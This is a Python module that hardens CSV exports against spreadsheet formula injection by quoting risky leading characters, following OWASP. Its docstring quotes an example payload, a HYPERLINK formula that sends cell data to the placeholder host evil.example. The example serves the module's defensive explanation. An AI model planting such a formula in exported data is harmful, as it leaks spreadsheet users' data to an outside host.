"""CSV files for people to open in a spreadsheet, written so that no cell runs as a formula.

Spreadsheets (Excel, LibreOffice Calc, Google Sheets) evaluate a cell that begins with
``=``, ``+``, ``-`` or ``@`` as a formula, and some do so after a leading tab or carriage
return: a company or material named ``=HYPERLINK("https://evil.example/?"&A2;"Open")`` would
run in the park manager's spreadsheet ("CSV injection"). OWASP's recommendation (CSV
Injection, OWASP Foundation) is followed: such a cell is written with a single quote in
front, which spreadsheets show as text.

A number stays a number. A cell that is a plain decimal number, ``-12.5`` or ``-1.5e3``
(a negative balance or gap), is read by every spreadsheet as that number and never as a
formula, so it is written as it is; anything else that begins with one of those characters
(``+5``, ``-1+2``, ``-``) gets the quote. Every CSV download goes through ``csv_text``.
"""

import csv
import io
import re
from collections.abc import Iterable

#: First characters that make a spreadsheet read a cell as a formula (OWASP's list).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
#: A plain decimal number, possibly negative: what spreadsheets read as a number.
NUMBER = re.compile(r"-?(\d+(\.\d*)?|\.\d+)([eE][-+]?\d+)?")


def safe_cell(value: object) -> str:
    """The cell's text, with a leading ``'`` when a spreadsheet would take it for a formula."""
    text = "" if value is None else str(value)
    if text.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(text):
        return "'" + text
    return text


def csv_text(rows: Iterable[Iterable[object]]) -> str:
    """Rows (the header first) as CSV text with every cell made safe by ``safe_cell``."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerows([safe_cell(cell) for cell in row] for row in rows)
    return out.getvalue()


def made_safe(text: str) -> str:
    """CSV written elsewhere (``mfa`` writes plain CSV for programs to read back), rewritten
    for a person's spreadsheet."""
    return csv_text(csv.reader(io.StringIO(text)))
